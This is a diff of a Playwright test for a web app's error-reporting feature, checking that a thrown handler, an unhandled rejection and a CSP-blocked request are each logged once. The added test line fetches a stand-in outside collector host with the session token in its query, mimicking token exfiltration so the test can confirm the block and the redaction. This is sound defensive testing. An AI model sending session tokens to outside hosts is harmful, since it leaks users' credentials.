@@ -96,47 +96,64 @@ test.describe('field reports', () => {
   });
 
   // The page's own errors are what this test makes: the suite's check for uncaught errors is off here.
-  withErrors('a handler’s exception and an unhandled rejection reach /_field, each once', async ({ page }) => {
-    const thrown: string[] = [];
-    page.on('pageerror', (e) => thrown.push(e.message));
-    await page.goto(`${demo.origin}/customer-service.html?token=${DEMO_TOKEN}`);
-    await expect(page.getByText('support@pesobridge.ph')).toBeVisible();
-    await expect(page.locator('html')).toHaveAttribute('data-field-reports', 'vitals');
-    // A tap whose handler throws, twice; a promise rejected with nobody awaiting it, twice.
-    await page.evaluate(() => {
-      const button = document.createElement('button');
-      button.textContent = 'Broken';
-      button.addEventListener('click', () => {
-        throw new RangeError('Broken handler for 09171234567');
+  withErrors(
+    'a handler’s exception, an unhandled rejection and a CSP block reach /_field, each once',
+    async ({ page }) => {
+      const thrown: string[] = [];
+      page.on('pageerror', (e) => thrown.push(e.message));
+      await page.goto(`${demo.origin}/customer-service.html?token=${DEMO_TOKEN}`);
+      await expect(page.getByText('support@pesobridge.ph')).toBeVisible();
+      await expect(page.locator('html')).toHaveAttribute('data-field-reports', 'vitals');
+      // A tap whose handler throws, twice; a promise rejected with nobody awaiting it, twice.
+      await page.evaluate(() => {
+        const button = document.createElement('button');
+        button.textContent = 'Broken';
+        button.addEventListener('click', () => {
+          throw new RangeError('Broken handler for 09171234567');
+        });
+        document.body.append(button);
       });
-      document.body.append(button);
-    });
-    const broken = page.getByRole('button', { name: 'Broken' });
-    await broken.click();
-    await broken.click();
-    for (let i = 0; i < 2; i++) await page.evaluate(() => void Promise.reject(new TypeError('Nobody awaited this')));
-    await expect.poll(() => thrown.length).toBe(4);
-    // Left, and sent by the next screen of ours once it is idle.
-    await page.goto(`${demo.origin}/about-us.html`);
-    await expect.poll(() => countIn(demo, 'field_failures')).toBe(2);
-    await page.goto(`${demo.origin}/_field`);
-    const row = (where: string) => page.getByRole('row').filter({ hasText: where });
-    await expect(row('uncaught exception').getByRole('cell')).toHaveText([
-      'customer-service',
-      'uncaught exception',
-      'RangeError',
-      'Broken handler for #',
-      '1',
-    ]);
-    await expect(row('unhandled rejection').getByRole('cell')).toHaveText([
-      'customer-service',
-      'unhandled rejection',
-      'TypeError',
-      'Nobody awaited this',
-      '1',
-    ]);
-    await expectAxeClean(page);
-  });
+      const broken = page.getByRole('button', { name: 'Broken' });
+      await broken.click();
+      await broken.click();
+      for (let i = 0; i < 2; i++) await page.evaluate(() => void Promise.reject(new TypeError('Nobody awaited this')));
+      await expect.poll(() => thrown.length).toBe(4);
+      // A request the page's CSP refuses (connect-src 'self'), with the session in its query.
+      await page.evaluate(
+        (token) => fetch(`https://collector.elsewhere.example/x?token=${token}`).catch(() => undefined),
+        DEMO_TOKEN,
+      );
+      // Left, and sent by the next screen of ours once it is idle.
+      await page.goto(`${demo.origin}/about-us.html`);
+      await expect.poll(() => countIn(demo, 'field_failures')).toBe(3);
+      await page.goto(`${demo.origin}/_field`);
+      const row = (where: string) => page.getByRole('row').filter({ hasText: where });
+      await expect(row('uncaught exception').getByRole('cell')).toHaveText([
+        'customer-service',
+        'uncaught exception',
+        'RangeError',
+        'Broken handler for #',
+        '1',
+      ]);
+      await expect(row('unhandled rejection').getByRole('cell')).toHaveText([
+        'customer-service',
+        'unhandled rejection',
+        'TypeError',
+        'Nobody awaited this',
+        '1',
+      ]);
+      // The directive and the blocked origin only: nothing of the path or the query.
+      await expect(row('blocked by CSP').getByRole('cell')).toHaveText([
+        'customer-service',
+        'blocked by CSP (directive, origin)',
+        'connect-src',
+        'https://collector.elsewhere.example',
+        '1',
+      ]);
+      expect(JSON.stringify(demo.server.db.prepare('SELECT * FROM field_failures').all())).not.toContain(DEMO_TOKEN);
+      await expectAxeClean(page);
+    },
+  );
 
   test.describe('a build without a report URL', () => {
     let dir: string;
